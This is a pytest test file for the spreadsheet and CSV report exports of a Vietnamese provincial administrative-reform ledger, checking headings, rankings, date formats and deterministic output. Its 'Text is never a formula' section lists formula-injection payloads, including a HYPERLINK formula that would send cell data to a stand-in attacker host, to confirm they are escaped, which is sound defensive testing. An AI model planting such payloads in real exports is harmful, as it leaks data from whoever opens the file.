"""The report exports: rows in, bytes out — no ledger, no files.

The rows are written by hand in the shape `Views.compilation` and `Views.index_results`
return; the workbooks are opened back with openpyxl and the CSV parsed back with `csv`.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest

from projections import exports, spreadsheets
from projections.errors import ExportError
from projections.spreadsheets import Source

RECORDED = datetime(2024, 12, 12, 2, 0, tzinfo=UTC)  # 09:00 on 12/12/2024 in Hưng Yên
SOURCE = Source(position=410, recorded_at=RECORDED)
BOM = "\ufeff".encode()


def result(index: str, score: str, rank: int, peers: int, level: str) -> dict[str, Any]:
    return {
        "index": index,
        "index_name": f"Chỉ số {index}",
        "results": f"submission/index-results/{index}/2024",
        "score": score,
        "maximum": "100",
        "rank": rank,
        "peers": peers,
        "band": "Khá",
        "measured_year": 2024,
        "decision": "Quyết định số 2702/QĐ-UBND ngày 24/10/2024",
        "version_seq": 337,
        "corrections": 0,
        "level": level,
        "missing": False,
    }


def missing(index: str) -> dict[str, Any]:
    return {"index": index, "index_name": f"Chỉ số {index}", "level": "not_evaluated", "missing": True}


def head(unit: str, name: str, unit_class: str, officer: str, indices: list[dict[str, Any]], **levels: Any) -> dict:
    row = {
        "subject": f"rating/2024/{unit}",
        "year": 2024,
        "unit": unit,
        "unit_name": name,
        "unit_class": unit_class,
        "officer": officer.lower().replace(" ", "."),
        "officer_name": officer,
        "ruleset": "v1",
        "indices": indices,
        "level": "HT",
        "computed_level": "HT",
        "computed_seq": 360,
        "decided_level": None,
        "current_level": "HT",
        "status": "computed",
        "decision": None,
        "consistent": True,
    }
    row.update(levels)
    return row


COMPILATION = [
    head(
        "SYT",
        "Sở Y tế",
        "department",
        "Cao Đức Cường",
        [result("PAR_UNIT", "80.20", 17, 18, "HT"), result("SIPAS_UNIT", "78.90", 18, 18, "HT")],
        decided_level="HT",
        current_level="HTT",
        status="revised",
        decision="Quyết định số 3120/QĐ-UBND ngày 10/12/2024",
    ),
    head(
        "331",
        "Huyện Kim Động",
        "district",
        "Ngô Đức Trang",
        [result("PAR_UNIT", "84.30", 5, 10, "HTT"), missing("PAPI_UNIT")],
        level="not_evaluated",
        computed_level="not_evaluated",
        current_level="not_evaluated",
    ),
    head(
        "CDCD",
        "Trường Cao đẳng Cộng đồng Hưng Yên",
        "public_service",
        "Trần Hồng An",
        [],
        level="not_evaluated",
        computed_level="not_evaluated",
        current_level="not_evaluated",
    ),
]

RANKINGS = [
    {
        "index_code": "PAR_UNIT",
        "index": "PAR_UNIT",
        "year": 2023,
        "unit": unit,
        "unit_name": name,
        "unit_class": unit_class,
        "subject": "submission/index-results/PAR_UNIT/2023",
        "lead": "SNV",
        "score": score,
        "rank": rank,
        "peers": peers,
        "maximum": "100",
        "band": band,
        "measured_year": 2023,
        "decision": "Quyết định số 2611/QĐ-UBND ngày 08/11/2023",
        "published_on": "2023-11-08",
        "version_seq": 272,
        "corrections": 1,
    }
    for unit, name, unit_class, score, rank, peers, band in (
        ("SNV", "Sở Nội vụ", "department", "92.85", 1, 2, "Tốt"),
        ("SYT", "Sở Y tế", "department", "78.60", 2, 2, "Trung bình"),
        ("328", "Thị xã Mỹ Hào", "district", "92.10", 1, 2, "Tốt"),
        ("331", "Huyện Kim Động", "district", "84.70", 2, 2, "Khá"),
    )
]


def workbook(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data)).active


def rows_of(sheet: Any) -> list[tuple[Any, ...]]:
    return list(sheet.iter_rows(values_only=True))


def header_index(rows: list[tuple[Any, ...]], first: str = "STT") -> int:
    return next(n for n, row in enumerate(rows) if row[0] == first)


# The compilation -------------------------------------------------------------------------


def test_the_compilation_workbook_has_the_title_the_source_and_vietnamese_headings() -> None:
    sheet = workbook(exports.compilation(COMPILATION, 2024, SOURCE, "xlsx"))
    rows = rows_of(sheet)

    assert rows[0][0] == "BẢNG TỔNG HỢP KẾT QUẢ ĐÁNH GIÁ NGƯỜI ĐỨNG ĐẦU NĂM 2024"
    assert rows[1][0] == (
        "Nguồn: Sổ cái CCHC — Sở Nội vụ tỉnh Hưng Yên. "
        "Số liệu đến mục số 410 của sổ cái, ghi lúc 09:00 ngày 12/12/2024."
    )
    top = header_index(rows)
    groups, headings = rows[top], rows[top + 1]
    assert groups[:5] == ("STT", "Mã đơn vị", "Tên đơn vị", "Loại đơn vị", "Người đứng đầu")
    assert groups[5] == "Chỉ số PAR_UNIT"
    assert headings[5:9] == ("Điểm", "Xếp hạng", "Số đơn vị cùng loại", "Mức xếp loại")
    assert [g for g in groups if g and g.startswith("Chỉ số ")] == [
        "Chỉ số PAR_UNIT",
        "Chỉ số SIPAS_UNIT",
        "Chỉ số PAPI_UNIT",
    ]
    for heading in ("Mức xếp loại tổng hợp", "Mức do UBND tỉnh quyết định", "Phiên bản bộ quy tắc"):
        assert heading in groups
    assert sheet.freeze_panes == f"D{top + 3}"  # the header stays, and the unit's code and name
    assert len(rows) == top + 2 + len(COMPILATION)


def test_the_compilation_has_one_row_per_head_with_levels_in_vietnamese() -> None:
    sheet = workbook(exports.compilation(COMPILATION, 2024, SOURCE, "xlsx"))
    rows = rows_of(sheet)
    top = header_index(rows)
    groups = rows[top]
    column = {heading: n for n, heading in enumerate(groups) if heading}
    syt, kim_dong, college = rows[top + 2 :]

    assert syt[:5] == (1, "SYT", "Sở Y tế", "Sở, ban, ngành tỉnh", "Cao Đức Cường")
    par = column["Chỉ số PAR_UNIT"]
    assert syt[par : par + 4] == (pytest.approx(80.2), 17, 18, "Hoàn thành nhiệm vụ")
    assert syt[column["Mức do Sở Nội vụ tính"]] == "Hoàn thành nhiệm vụ"
    assert syt[column["Mức do UBND tỉnh quyết định"]] == "Hoàn thành nhiệm vụ"
    assert syt[column["Mức hiện hành"]] == "Hoàn thành tốt nhiệm vụ"
    assert syt[column["Trạng thái"]] == "Đã điều chỉnh sau kiến nghị"
    assert syt[column["Phiên bản bộ quy tắc"]] == "v1"
    papi = column["Chỉ số PAPI_UNIT"]
    assert syt[papi : papi + 4] == (None, None, None, None)  # PAPI does not count for departments

    assert kim_dong[3] == "UBND huyện, thị xã, thành phố"
    assert kim_dong[papi : papi + 4] == ("Chưa có kết quả", None, None, "Chưa đủ căn cứ đánh giá")
    assert kim_dong[column["Mức xếp loại tổng hợp"]] == "Chưa đủ căn cứ đánh giá"
    assert kim_dong[column["Mức do UBND tỉnh quyết định"]] is None
    assert college[column["Mức xếp loại tổng hợp"]] == "Chưa đủ căn cứ đánh giá"
    assert college[3] == "Đơn vị sự nghiệp công lập thuộc UBND tỉnh"


def test_scores_keep_their_published_decimals_in_the_workbook() -> None:
    sheet = workbook(exports.compilation(COMPILATION, 2024, SOURCE, "xlsx"))
    top = header_index(rows_of(sheet))
    cell = sheet.cell(top + 3, 6)  # SYT's PAR_UNIT score
    assert cell.value == pytest.approx(80.2)
    assert cell.number_format == "0.00"


def test_the_compilation_csv_starts_with_a_bom_and_parses_back_with_the_same_columns() -> None:
    data = exports.compilation(COMPILATION, 2024, SOURCE, "csv")

    assert data.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    heading, *rows = parsed
    assert heading[:5] == ["STT", "Mã đơn vị", "Tên đơn vị", "Loại đơn vị", "Người đứng đầu"]
    assert heading[5:9] == [
        "Chỉ số PAR_UNIT – Điểm",
        "Chỉ số PAR_UNIT – Xếp hạng",
        "Chỉ số PAR_UNIT – Số đơn vị cùng loại",
        "Chỉ số PAR_UNIT – Mức xếp loại",
    ]
    assert "Mức do UBND tỉnh quyết định" in heading
    assert len(rows) == len(COMPILATION)
    assert rows[0][5:9] == ["80.20", "17", "18", "Hoàn thành nhiệm vụ"]  # the score as published
    assert rows[0][heading.index("Mức hiện hành")] == "Hoàn thành tốt nhiệm vụ"
    assert rows[1][heading.index("Mức xếp loại tổng hợp")] == "Chưa đủ căn cứ đánh giá"
    workbook_headings = len(rows_of(workbook(exports.compilation(COMPILATION, 2024, SOURCE, "xlsx")))[3])
    assert len(heading) == workbook_headings  # the same columns in both formats


def test_an_empty_compilation_is_still_a_table_with_its_headings() -> None:
    sheet = workbook(exports.compilation([], 2025, Source(0), "xlsx"))
    rows = rows_of(sheet)
    assert rows[0][0] == "BẢNG TỔNG HỢP KẾT QUẢ ĐÁNH GIÁ NGƯỜI ĐỨNG ĐẦU NĂM 2025"
    assert rows[1][0] == "Nguồn: Sổ cái CCHC — Sở Nội vụ tỉnh Hưng Yên. Số liệu đến mục số 0 của sổ cái."
    assert rows[header_index(rows)][:3] == ("STT", "Mã đơn vị", "Tên đơn vị")
    assert exports.compilation([], 2025, Source(0), "csv").decode("utf-8-sig").startswith("STT,")


# The rankings ----------------------------------------------------------------------------


def test_the_rankings_workbook_lists_each_class_by_rank_with_dates_dd_mm_yyyy() -> None:
    data = exports.rankings(RANKINGS, "PAR_UNIT", 2023, SOURCE, "xlsx", index_name="Chỉ số cải cách hành chính")
    sheet = workbook(data)
    rows = rows_of(sheet)

    assert rows[0][0] == "BẢNG XẾP HẠNG CHỈ SỐ PAR_UNIT NĂM 2023"
    assert rows[1][0] == "Chỉ số cải cách hành chính"
    assert any(row[0] and str(row[0]).startswith("Nguồn: Sổ cái CCHC — Sở Nội vụ tỉnh Hưng Yên") for row in rows)
    top = header_index(rows)
    heading = rows[top]
    assert heading[:5] == ("STT", "Loại đơn vị", "Mã đơn vị", "Tên đơn vị", "Chỉ số")
    assert "Điểm" in heading
    assert "Xếp hạng" in heading
    assert "Ngày công bố" in heading
    body = rows[top + 1 :]
    assert [(row[2], row[heading.index("Xếp hạng")]) for row in body] == [
        ("SNV", 1),
        ("SYT", 2),
        ("328", 1),
        ("331", 2),
    ]
    assert body[3][1] == "UBND huyện, thị xã, thành phố"
    assert body[3][3] == "Huyện Kim Động"
    published = sheet.cell(top + 2, heading.index("Ngày công bố") + 1)
    assert published.value == datetime(2023, 11, 8)
    assert published.number_format == "DD/MM/YYYY"
    assert sheet.freeze_panes == f"E{top + 2}"


def test_the_rankings_csv_writes_dates_dd_mm_yyyy_and_scores_as_published() -> None:
    data = exports.rankings(RANKINGS, "PAR_UNIT", 2023, SOURCE, "csv")

    assert data.startswith(BOM)
    assert b"\r\n" in data
    heading, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig")))
    record = dict(zip(heading, rows[3], strict=True))
    assert record["Tên đơn vị"] == "Huyện Kim Động"
    assert record["Loại đơn vị"] == "UBND huyện, thị xã, thành phố"
    assert record["Điểm"] == "84.70"
    assert record["Ngày công bố"] == "08/11/2023"
    assert record["Xếp hạng"] == "2"
    assert record["Số đơn vị cùng loại"] == "2"
    assert record["Chỉ số"] == "PAR_UNIT"


# Text is never a formula ---------------------------------------------------------------

#: What a signer could put in a decision number, a band or a name: each a formula if evaluated.
HOSTILE = (
    '=HYPERLINK("http://attacker.example/?d="&D6,"Xem")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
)


def hostile_rankings(text: str) -> list[dict[str, Any]]:
    return [dict(RANKINGS[0], decision=text, band=text, unit_name=text), *RANKINGS[1:]]


def hostile_compilation(text: str) -> list[dict[str, Any]]:
    return [dict(COMPILATION[0], decision=text, unit_name=text, officer_name=text), *COMPILATION[1:]]


def cells(data: bytes, text: str) -> list[Any]:
    """Every cell of the workbook whose value is `text`."""
    sheet = workbook(data)
    return [cell for row in sheet.iter_rows() for cell in row if cell.value == text]


# XML reads a carriage return back as a line feed: the workbook's check leaves that one out.
@pytest.mark.parametrize("text", [text for text in HOSTILE if "\r" not in text])
def test_hostile_text_is_a_string_cell_in_every_workbook_never_a_formula(text: str) -> None:
    rankings = exports.rankings(hostile_rankings(text), "PAR_UNIT", 2023, SOURCE, "xlsx", index_name=text)
    compilation = exports.compilation(hostile_compilation(text), 2024, SOURCE, "xlsx")

    found = cells(rankings, text)
    assert len(found) == 4  # the index's name in the title block, the unit's name, the band, the decision
    assert {cell.data_type for cell in found} == {"s"}
    found = cells(compilation, text)
    assert len(found) == 3  # the unit's name, the head's name, the decision
    assert {cell.data_type for cell in found} == {"s"}
    for data in (rankings, compilation):
        assert not [cell for row in workbook(data).iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_escaped_with_a_quote_in_every_csv(text: str) -> None:
    rankings = exports.rankings(hostile_rankings(text), "PAR_UNIT", 2023, SOURCE, "csv")
    compilation = exports.compilation(hostile_compilation(text), 2024, SOURCE, "csv")

    heading, first, *_ = csv.reader(io.StringIO(rankings.decode("utf-8-sig")))
    record = dict(zip(heading, first, strict=True))
    assert record["Quyết định công bố"] == record["Xếp loại chỉ số"] == record["Tên đơn vị"] == "'" + text
    heading, first, *_ = csv.reader(io.StringIO(compilation.decode("utf-8-sig")))
    record = dict(zip(heading, first, strict=True))
    assert record["Quyết định của UBND tỉnh"] == record["Tên đơn vị"] == record["Người đứng đầu"] == "'" + text


def test_numbers_the_export_writes_stay_numbers_even_when_negative() -> None:
    rows = [dict(RANKINGS[0], score="-1.50", corrections=-1), *RANKINGS[1:]]

    heading, first, *_ = csv.reader(
        io.StringIO(exports.rankings(rows, "PAR_UNIT", 2023, SOURCE, "csv").decode("utf-8-sig"))
    )
    record = dict(zip(heading, first, strict=True))
    assert (record["Điểm"], record["Số lần đính chính"]) == ("-1.50", "-1")
    sheet = workbook(exports.rankings(rows, "PAR_UNIT", 2023, SOURCE, "xlsx"))
    top = header_index(rows_of(sheet))
    heading_cells = rows_of(sheet)[top]
    score = sheet.cell(top + 2, heading_cells.index("Điểm") + 1)
    assert (score.value, score.data_type) == (pytest.approx(-1.5), "n")


def test_text_that_only_contains_a_formula_character_is_left_as_it_is() -> None:
    assert spreadsheets.csv_text("Quyết định số 2611/QĐ-UBND = ban hành") == "Quyết định số 2611/QĐ-UBND = ban hành"
    assert spreadsheets.csv_text("") == ""


# Deterministic bytes ---------------------------------------------------------------------


@pytest.mark.parametrize("fmt", spreadsheets.FORMATS)
def test_the_same_rows_give_the_same_bytes(fmt: str, monkeypatch: pytest.MonkeyPatch) -> None:
    first = exports.compilation(COMPILATION, 2024, SOURCE, fmt)
    later = 1_900_000_000.0  # another moment: nothing may come from the clock
    monkeypatch.setattr("time.time", lambda: later)
    second = exports.compilation(COMPILATION, 2024, SOURCE, fmt)
    assert first == second
    assert exports.rankings(RANKINGS, "PAR_UNIT", 2023, SOURCE, fmt) == exports.rankings(
        RANKINGS, "PAR_UNIT", 2023, SOURCE, fmt
    )


def test_the_workbook_carries_the_time_of_the_data_not_of_the_clock() -> None:
    data = exports.compilation(COMPILATION, 2024, SOURCE, "xlsx")

    properties = openpyxl.load_workbook(io.BytesIO(data)).properties
    assert properties.created == datetime(2024, 12, 12, 2, 0)
    assert properties.modified == datetime(2024, 12, 12, 2, 0)
    assert properties.creator == "Sổ cái CCHC — Sở Nội vụ tỉnh Hưng Yên"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {info.date_time for info in archive.infolist()} == {(2024, 12, 12, 9, 0, 0)}  # local time


def test_other_data_gives_other_bytes() -> None:
    changed = [dict(COMPILATION[0], current_level="HTXS"), *COMPILATION[1:]]
    assert exports.compilation(changed, 2024, SOURCE, "xlsx") != exports.compilation(COMPILATION, 2024, SOURCE, "xlsx")
    later = Source(411, datetime(2024, 12, 13, tzinfo=UTC))
    for fmt, same in (("csv", True), ("xlsx", False)):  # only the workbook says when
        assert (
            exports.compilation(COMPILATION, 2024, later, fmt) == exports.compilation(COMPILATION, 2024, SOURCE, fmt)
        ) is same


def test_an_unknown_format_is_refused() -> None:
    with pytest.raises(ExportError, match="unknown report format 'pdf'"):
        exports.compilation(COMPILATION, 2024, SOURCE, "pdf")
